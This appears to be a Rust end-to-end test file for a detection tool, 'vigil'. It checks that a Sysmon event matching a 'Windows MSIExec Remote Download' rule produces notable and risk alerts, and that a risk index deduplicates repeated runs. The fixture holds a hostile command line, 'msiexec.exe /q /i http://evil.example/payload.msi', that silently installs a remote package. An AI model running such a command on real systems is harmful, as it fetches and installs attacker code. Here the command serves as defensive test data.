//! End to end: `vigil hunt --alerts` turns the seed's results into the notable and risk events
//! ES raises, and `vigil risk` reads the risk index back.

mod common;

use common::{stderr, stdout, vigil};
use serde_json::Value as J;

const MESSAGE_TAIL: &str = "attempting to download a remote file.";

fn alerts(out: &str) -> Vec<J> {
    out.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad jsonl line {l}: {e}"))).collect()
}

fn s<'a>(v: &'a J, k: &str) -> &'a str {
    v[k].as_str().unwrap_or_else(|| panic!("{k} missing in {v}"))
}

/// Checks one result's notable and its two risk events against the seed's definition, with
/// every value taken from the result's own fields.
fn check_seed_alerts(notable: &J, risk: &[&J]) {
    assert_eq!(s(notable, "kind"), "notable");
    assert_eq!(s(notable, "search_name"), "ESCU - Windows MSIExec Remote Download - Rule");
    assert_eq!(s(notable, "rule_title"), "Windows MSIExec Remote Download");
    assert!(s(notable, "rule_description").starts_with("The following analytic detects the use of msiexec.exe"));
    assert_eq!(s(notable, "severity"), "low");
    assert_eq!(s(notable, "user"), s(notable, "orig_user"));
    assert_eq!(s(notable, "dest"), s(notable, "orig_dest"));
    assert_eq!(notable["annotations"]["mitre_attack"][0], "T1218.007");
    let (user, dest) = (s(notable, "orig_user"), s(notable, "orig_dest"));
    let msg = format!(
        "An instance of {} spawning {} was identified on endpoint {dest} by user {user} {MESSAGE_TAIL}",
        s(notable, "orig_parent_process_name"),
        s(notable, "orig_process_name")
    );
    assert_eq!(risk.len(), 2, "two risk events per result");
    let want = [(user, "user"), (dest, "system")];
    for (e, (obj, ty)) in risk.iter().zip(want) {
        assert_eq!(s(e, "kind"), "risk");
        assert_eq!(s(e, "risk_object"), obj);
        assert_eq!(s(e, "risk_object_type"), ty);
        assert_eq!(e["risk_score"], 35);
        assert_eq!(s(e, "risk_message"), msg);
        assert_eq!(e["threat_object"], serde_json::json!([s(notable, "orig_process_name"), s(notable, "orig_parent_process_name")]));
        assert_eq!(e["threat_object_type"], serde_json::json!(["process_name", "parent_process_name"]));
        assert_eq!(s(e, "detection_id"), "6aa49ff2-3c92-4586-83e0-d83eb693dfda");
        assert_eq!(s(e, "detection_version"), "10");
        assert_eq!(e["annotations"]["mitre_tactic"][0], "defense-evasion");
        assert_eq!(e["_time"], notable["_time"]);
    }
}

/// Groups a run's alerts as notable + its risk events (the order build_alerts writes).
fn groups(all: &[J]) -> Vec<(&J, Vec<&J>)> {
    let mut out: Vec<(&J, Vec<&J>)> = Vec::new();
    for a in all {
        match a["kind"].as_str() {
            Some("notable") => out.push((a, Vec::new())),
            Some("risk") => out.last_mut().expect("risk event after its notable").1.push(a),
            other => panic!("unexpected kind {other:?}"),
        }
    }
    out
}

#[test]
fn samples_give_one_notable_and_two_risk_events_per_result() {
    let o = vigil(&["hunt", "--alerts", "--format", "jsonl", "--no-risk-db", "samples/"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let all = alerts(&stdout(&o));
    let g = groups(&all);
    assert!(g.len() >= 4, "a notable per sample source, got {}", g.len());
    for (n, r) in &g {
        check_seed_alerts(n, r);
    }
    let sysmon = g.iter().find(|(n, _)| n["orig_vendor_product"] == "Microsoft Sysmon").expect("a Sysmon result");
    assert_eq!(s(sysmon.0, "orig_process_name"), "msiexec.exe");
    // The samples give one user more than 100 risk: an incident, named on stderr, not in stdout.
    assert!(stderr(&o).contains("vigil: incident: Risk Threshold Exceeded For Object Over 24 Hour Period"), "{}", stderr(&o));
}

const SYSMON_EVENT: &str = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2026-10-02T08:00:01.0000000Z'/><EventRecordID>4242</EventRecordID><Correlation/><Execution ProcessID='3376' ThreadID='4340'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>FINANCE-LT-07</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2026-10-02 08:00:01.000</Data><Data Name='ProcessGuid'>{1b43529b-0001-6a7f-cb04-000000006300}</Data><Data Name='ProcessId'>812</Data><Data Name='Image'>C:\\Windows\\System32\\msiexec.exe</Data><Data Name='OriginalFileName'>msiexec.exe</Data><Data Name='CommandLine'>msiexec.exe /q /i http://evil.example/payload.msi</Data><Data Name='CurrentDirectory'>C:\\Users\\bob\\</Data><Data Name='User'>CORP\\bob</Data><Data Name='LogonGuid'>{1b43529b-244e-6a7f-e703-000000000000}</Data><Data Name='LogonId'>0x3e7</Data><Data Name='TerminalSessionId'>2</Data><Data Name='IntegrityLevel'>Medium</Data><Data Name='Hashes'>SHA256=CE219763B73D8B4FE41517B70CAE7421F28CACA149C6637D3312290357D81508</Data><Data Name='ParentProcessGuid'>{1b43529b-0002-6a7f-ca04-000000006300}</Data><Data Name='ParentProcessId'>5640</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='ParentCommandLine'>C:\\Windows\\explorer.exe</Data><Data Name='ParentUser'>CORP\\bob</Data></EventData></Event>\n";

fn sysmon_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("sysmon.log"), SYSMON_EVENT).expect("write sample");
    dir
}

#[test]
fn own_sysmon_event_renders_exact_values() {
    let dir = sysmon_dir();
    let path = dir.path().to_string_lossy().into_owned();
    let o = vigil(&["hunt", "--alerts", "--format", "jsonl", "--no-risk-db", &path]);
    assert!(o.status.success(), "{}", stderr(&o));
    let all = alerts(&stdout(&o));
    assert_eq!(all.len(), 3, "{}", stdout(&o));
    assert_eq!(s(&all[0], "user"), "CORP\\bob");
    assert_eq!(s(&all[0], "dest"), "FINANCE-LT-07");
    assert_eq!(
        s(&all[1], "risk_message"),
        "An instance of explorer.exe spawning msiexec.exe was identified on endpoint FINANCE-LT-07 by user CORP\\bob attempting to download a remote file."
    );
    check_seed_alerts(&all[0], &[&all[1], &all[2]]);
}

#[test]
fn table_and_csv_alert_output() {
    let dir = sysmon_dir();
    let path = dir.path().to_string_lossy().into_owned();
    let o = vigil(&["hunt", "--alerts", "--format", "csv", "--no-risk-db", &path]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(out.starts_with("kind,_time,search_name,"), "{out}");
    assert_eq!(out.lines().filter(|l| l.starts_with("risk,")).count(), 2);
    let o = vigil(&["hunt", "--alerts", "--no-risk-db", &path]);
    let out = stdout(&o);
    assert!(out.contains("== notables (1 result) ==") && out.contains("== risk events (2 results) =="), "{out}");
}

#[test]
fn risk_index_dedups_runs_and_risk_lists_objects() {
    let dir = sysmon_dir();
    let path = dir.path().join("logs");
    std::fs::create_dir(&path).expect("mkdir");
    std::fs::write(path.join("sysmon.log"), SYSMON_EVENT).expect("write sample");
    let logs = path.to_string_lossy().into_owned();
    let db = dir.path().join("idx").join("risk.db");
    let db = db.to_string_lossy().into_owned();
    let o = vigil(&["hunt", "--alerts", "--format", "jsonl", "--risk-db", &db, &logs]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("3 new, 0 already recorded"), "{}", stderr(&o));
    let o = vigil(&["hunt", "--alerts", "--format", "jsonl", "--risk-db", &db, &logs]);
    assert!(stderr(&o).contains("0 new, 3 already recorded"), "{}", stderr(&o));
    assert_eq!(alerts(&stdout(&o)).len(), 3, "a re-run still reports its alerts");

    // Alerts carry the activity's time (the event's, 2026-10-02T08:00:01Z), not the run's.
    let o = vigil(&["risk", "--risk-db", &db, "--since", "2026-10-02T08:00:01Z", "--until", "2026-10-02T08:00:02Z", "--format", "jsonl"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let rows = alerts(&stdout(&o));
    assert_eq!(rows.len(), 2, "{}", stdout(&o));
    let user = rows.iter().find(|r| r["risk_object_type"] == "user").expect("user object");
    assert_eq!(user["risk_object"], "corp\\bob");
    assert_eq!(user["total_score"], 35, "not doubled by the second run");
    assert_eq!(user["count"], 1);
    assert_eq!(user["tactics"], serde_json::json!(["defense-evasion"]));
    // A range before the activity is empty; a lower threshold raises an incident per object,
    // at the activity's time.
    let o = vigil(&["risk", "--risk-db", &db, "--until", "2026-10-02T08:00:01Z", "--format", "csv"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).trim().is_empty(), "{}", stdout(&o));
    let o = vigil(&["risk", "--risk-db", &db, "--risk-threshold", "30"]);
    let out = stdout(&o);
    assert!(out.contains("== incidents (2 results) ==") && out.contains("Risk Threshold Exceeded For Object Over 24 Hour Period"), "{out}");
    assert!(stderr(&o).contains("(2 new)"), "{}", stderr(&o));
    let incidents = out.split("== incidents").nth(1).unwrap_or_default();
    assert_eq!(incidents.lines().filter(|l| l.starts_with("2026-10-02T08:00:01")).count(), 2, "{out}");
    let o = vigil(&["risk", "--risk-db", &db, "--risk-threshold", "30"]);
    assert!(stderr(&o).contains("2 incident(s) (0 new)"), "{}", stderr(&o));
}

#[test]
fn risk_without_index_is_an_error() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = dir.path().join("none.db").to_string_lossy().into_owned();
    let o = vigil(&["risk", "--risk-db", &db]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("no such file"), "{}", stderr(&o));
}
